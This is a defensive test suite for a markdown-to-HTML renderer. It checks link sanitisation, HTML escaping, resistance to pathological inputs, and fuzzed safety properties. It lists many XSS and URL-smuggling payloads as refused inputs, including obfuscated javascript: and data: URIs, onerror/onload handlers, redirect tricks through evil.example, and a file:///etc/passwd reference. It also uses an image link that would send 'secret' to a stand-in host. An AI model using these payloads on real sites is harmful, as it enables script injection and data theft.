import fc from "fast-check";
import type { Element, Nodes, Root } from "hast";
import { sanitize } from "hast-util-sanitize";
import { describe, expect, it } from "vitest";
import { MENTIONS, MESSAGE_LENGTH, NOTE_LENGTH, NOTE_NODES } from "#/domain/markdown/bounds.ts";
import { safeHref } from "#/domain/markdown/links.ts";
import { parseMarkdown } from "#/domain/markdown/parse.ts";
import { extractMentions, plainText } from "#/domain/markdown/plain-text.ts";
import { renderHtml } from "#/domain/markdown/render-html.ts";
import { schema } from "#/domain/markdown/schema.ts";
import { toHast } from "#/domain/markdown/to-hast.ts";

const handles = new Map([["ana", "p-ana"]]);

function elements(node: Nodes): Element[] {
  const below = "children" in node ? node.children.flatMap(elements) : [];
  return node.type === "element" ? [node, ...below] : below;
}

const PROPERTIES = new Set(
  "href target rel className dataTarget dataEmbed dataParticipant type disabled checked start align".split(" "),
);
const SAFE_HREF = /^(?:https?:\/\/[^/]|mailto:|\/(?![/\\])|#)[\x21-\x7e]*$/i;

function expectSafe(tree: Root): void {
  for (const { tagName, properties } of elements(tree)) {
    expect(schema.tagNames).toContain(tagName);
    for (const name of Object.keys(properties)) expect(PROPERTIES).toContain(name);
    if (properties.href !== undefined) expect(properties.href).toMatch(SAFE_HREF);
    if (properties.target !== undefined) expect(properties.rel).toEqual(["noopener", "noreferrer", "nofollow"]);
  }
}

const REFUSED = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&#58;alert(1)",
  "javascript&colon;alert(1)",
  "&#x6A;avascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "java&#9;script:alert(1)",
  "java&#10;script:alert(1)",
  "java&#13;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java\\\nscript:alert(1)",
  "&#1;javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "\ufeffjavascript:alert(1)",
  "&nbsp;javascript:alert(1)",
  "java\u0000script:alert(1)",
  "javascript%3Aalert(1)",
  "javascript://a.example/%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg/onload=alert(1)>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://a.example/1",
  "view-source:https://a.example",
  "intent://a#Intent;end",
  "ftp://a.example",
  "//evil.example",
  "///evil.example",
  "/\\\\evil.example",
  "\\\\\\\\evil.example",
  "https:evil.example",
  "https:/evil.example",
  "https:///evil.example",
  "http:\\\\evil.example",
  "https://bank.example@evil.example",
  "https://u:p@evil.example",
  "https://a b.example",
  "https://[::1",
  "evil.example",
  "?a=b",
  "../x",
  "https://a.example/\u202egpj.exe",
];

describe("Links", () => {
  it.each(REFUSED)("never lead to %j", (url) => {
    for (const text of [`[x](<${url}>)`, `[x](${url})`, `<${url}>`, `[x]\n\n[x]: <${url}>`, `![x](<${url}>)`]) {
      const tree = toHast(parseMarkdown(text));
      expectSafe(tree);
      for (const { properties } of elements(tree))
        expect(String(properties.href ?? "")).not.toMatch(/script:|evil|data:/i);
    }
  });

  it.each(REFUSED.filter((url) => !url.includes("&")))("refuse %j by themselves", (url) => {
    expect(safeHref(url)).toBeUndefined();
  });

  it.each([
    ["https://a.example/é?b=\"'<>", "https://a.example/%C3%A9?b=%22%27%3C%3E"],
    ["HTTPS://a.example", "HTTPS://a.example"],
    ["mailto:a@b.example", "mailto:a@b.example"],
    ["/w/a/r/b?c=d#e", "/w/a/r/b?c=d#e"],
    ["#here", "#here"],
    ["https://a.example/%E2%80%AE", "https://a.example/%E2%80%AE"],
  ])("keep %j", (url, href) => {
    expect(safeHref(url)?.href).toBe(href);
  });

  it("drop titles, which could carry attributes of any length", () => {
    expect(renderHtml(`[a](/b "onclick=1")`)).toBe('<p><a href="/b">a</a></p>');
  });

  it("are not multiplied by references to one long destination", () => {
    const url = `https://a.example/${"b".repeat(1_900)}`;
    const text = `${"[x] ".repeat(900)}\n\n[x]: ${url}`;
    expect(renderHtml(text).length).toBeLessThan(8 * MESSAGE_LENGTH);
    expect(renderHtml(`[a](https://a.example/${"b".repeat(3_000)})`)).toBe("<p>a</p>");
  });

  it("do not nest", () => {
    for (const text of [
      "[a [b](/c)](/d)",
      "[![a](/b)](/c)",
      "[https://a.example](/b)",
      "[[[x]]](/b)",
      "[a <https://b.example>](/c)",
    ]) {
      const anchors = elements(toHast(parseMarkdown(text), { wikiHref: () => "/n" })).filter((e) => e.tagName === "a");
      for (const anchor of anchors) expect(elements(anchor).filter((e) => e.tagName === "a")).toEqual([anchor]);
    }
  });
});

describe("Pictures", () => {
  it.each([
    "![a](https://evil.example/?s=secret)",
    "![a][k]\n\n[k]: https://evil.example/?s=secret",
    "![a]\n\n[a]: https://evil.example",
  ])("are links, so that reading %j fetches nothing", (text) => {
    const html = renderHtml(text);
    expect(html).toContain('class="image-link"');
    expect(html).not.toMatch(/<img|src=|srcset|background|url\(/i);
  });
});

describe("HTML", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<iframe srcdoc='<script>'></iframe>",
    "<style>@import 'https://evil.example'</style>",
    "<!-- --><p>",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "<div style='position:fixed'>x</div>",
    "- <details open ontoggle=alert(1)>",
    "**<b**onclick=1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ])("is text: %j", (text) => {
    const html = renderHtml(text);
    expectSafe(toHast(parseMarkdown(text)));
    expect(html).not.toMatch(/<(?:script|img|svg|iframe|style|details|b\b|div style|!--)/i);
    expect(html).toMatch(/&#x3C;|&lt;/);
  });
});

describe("Bounds", () => {
  const line = "x".repeat(1_048_576);
  const wide = `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n${"|a\n".repeat(20_000)}`;
  const cases: [name: string, text: string][] = [
    ["quotes 1,000 deep", `${">".repeat(1_000)} a`],
    ["quotes 20,000 deep", ">".repeat(20_000)],
    ["lists 1,000 deep in one line", `${"- ".repeat(1_000)}a`],
    ["numbered lists 1,000 deep", `${"1. ".repeat(1_000)}a`],
    ["lists 250 deep by indentation", Array.from({ length: 250 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n")],
    ["quotes and lists in turn", `${"> - ".repeat(500)}a`],
    ["100,000 emoji", "😀".repeat(100_000)],
    ["a line of 1 MB", line],
    ["10,000 mentions", "@ana ".repeat(10_000)],
    ["zalgo", `a${"\u0301".repeat(60_000)}`],
    ["emphasis", "*a* ".repeat(16_000)],
    ["unclosed emphasis", "a**b".repeat(16_000)],
    ["mixed delimiters", "*a_b~~c ".repeat(8_000)],
    ["emphasis in emphasis", `${"*a **b ".repeat(900)}c${"** *".repeat(900)}`],
    ["open brackets", "[".repeat(65_536)],
    ["bracket pairs", "[a]".repeat(21_000)],
    ["pictures in pictures", `${"![".repeat(990)}a${"](b)".repeat(990)}`],
    ["links to nowhere", "[a](<".repeat(13_000)],
    ["backtick runs", Array.from({ length: 350 }, (_, i) => `${"`".repeat(i + 1)}a`).join("")],
    ["underlined headings", "a\n=\n".repeat(16_000)],
    ["underlined headings in quotes", "> a\n> =\n".repeat(8_000)],
    ["a wide table with many short rows", wide],
    ["line ends", "\n".repeat(65_536)],
    ["lines", "a\n".repeat(32_000)],
    ["definitions", Array.from({ length: 5_000 }, (_, i) => `[${i}]: /a`).join("\n")],
    ["footnotes", `${"[^a] ".repeat(900)}\n\n[^a]: b`],
    ["dollars", "$".repeat(65_536)],
    ["unclosed formulas", "$a ".repeat(21_000)],
    ["open wiki links", "[[a".repeat(21_000)],
    ["HTML", "<div>\n".repeat(10_000)],
    ["declarations", "<!A ".repeat(16_000)],
    ["instructions", "<?".repeat(32_000)],
    ["addresses", "http://a.b ".repeat(6_000)],
    ["mail addresses", "a@b.c ".repeat(11_000)],
    ["www", "www.".repeat(16_000)],
    ["entities", "&amp;".repeat(13_000)],
    ["escapes", "\\*".repeat(32_000)],
  ];

  // The square of any of these takes tens of seconds; the limit is generous because test machines are busy.
  it.each(cases)("hold for %s", { timeout: 20_000 }, (_name, text) => {
    const start = performance.now();
    const tree = toHast(parseMarkdown(text, { handles }));
    plainText(text);
    const html = renderHtml(text, { handles });
    expect(performance.now() - start).toBeLessThan(5_000);
    expect(elements(tree).length).toBeLessThan(8_000);
    expect(html.length).toBeLessThan(1_500_000);
    expectSafe(tree);
  });

  it("show what is over them as it was typed, with the reason", () => {
    expect(parseMarkdown(`${">".repeat(1_000)} a`).children).toEqual([
      { type: "plain", value: `${">".repeat(1_000)} a`, reason: "too_deep" },
    ]);
    expect(parseMarkdown("a**b".repeat(5_000)).children[0]).toMatchObject({ reason: "too_complex" });
    expect(parseMarkdown("a\n".repeat(10_000)).children[0]).toMatchObject({ reason: "too_many_nodes" });
    expect(renderHtml(`${"- ".repeat(200)}<b>`)).toBe(`<div class="plain">${"- ".repeat(200)}&#x3C;b></div>`);
  });

  it("leave ordinary long texts alone", () => {
    expect(renderHtml(`- ${"- ".repeat(20)}a`)).toContain("<ul>");
    expect(renderHtml("- - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -")).toBe("<hr>");
    expect(renderHtml("**a** *b* `c`\n\n".repeat(400))).toContain("<strong>");
    const note = "# Title\n\nSome **bold** words and a [link](/a).\n\n- one\n- two\n\n".repeat(1_000);
    const tree = toHast(parseMarkdown(note, { maxLength: NOTE_LENGTH, maxNodes: NOTE_NODES }));
    expect(elements(tree).length).toBeGreaterThan(5_000);
  });

  it("cut a text that is too long, between characters", () => {
    expect(renderHtml("a".repeat(70_000))).toBe(`<p>${"a".repeat(MESSAGE_LENGTH)}…</p>`);
    expect(renderHtml(`a${"😀".repeat(40_000)}`)).toBe(`<p>a${"😀".repeat(32_767)}…</p>`);
  });

  it("resolve a bounded number of mentions", () => {
    const tree = toHast(parseMarkdown("@ana ".repeat(10_000), { handles }));
    expect(elements(tree).filter((e) => e.tagName === "span")).toHaveLength(MENTIONS);
    expect(extractMentions("@ana ".repeat(10_000), handles)).toEqual(["p-ana"]);
  });
});

const SNIPPETS = [
  ..."*_~`[]()<>!#|-+=>$@\\&;:\"'/ \n\t",
  "**",
  "~~",
  "```",
  "$$",
  "[[",
  "]]",
  "![",
  "](",
  "- [ ] ",
  "1. ",
  "> ",
  "\n\n",
  "    ",
  "|-|",
  "[^1]",
  "[^1]: ",
  "[a]: ",
  "javascript:",
  "data:text/html,",
  "https://a.example",
  "www.a.b",
  "a@b.c",
  "&#x6a;",
  "&colon;",
  "<script>",
  "onclick=",
  "@ana",
  "a",
  "😀",
  "\u0000",
  "\u200b",
  "\u202e",
  "\ud800",
  "\r\n",
  "\u0301",
];

describe("Any text", () => {
  const texts = fc.oneof(
    fc.string({ unit: "binary", maxLength: 200 }),
    fc.array(fc.constantFrom(...SNIPPETS), { maxLength: 60 }).map((parts) => parts.join("")),
  );

  it("renders without throwing, to allowed elements, attributes and destinations only", () => {
    fc.assert(
      fc.property(texts, (text) => {
        const tree = toHast(parseMarkdown(text, { handles }), { wikiHref: (target) => `/n/${target}` });
        expectSafe(tree);
        expect(sanitize(tree, schema)).toEqual(tree);
        expect(toHast(parseMarkdown(text, { handles }), { wikiHref: (target) => `/n/${target}` })).toEqual(tree);
        expect(renderHtml(text, { handles })).not.toMatch(/<[^>]*\son\w+=|<script|<img/i);
      }),
      { numRuns: 1_500 },
    );
  });

  it("has a bounded preview of one line", () => {
    fc.assert(
      fc.property(texts, fc.integer({ min: 1, max: 50 }), (text, maxLength) => {
        const preview = plainText(text, maxLength);
        expect(preview.length).toBeLessThanOrEqual(maxLength + 1);
        expect(preview).not.toMatch(/[\p{Cc}\u202a-\u202e]/u);
        expect(preview.isWellFormed()).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
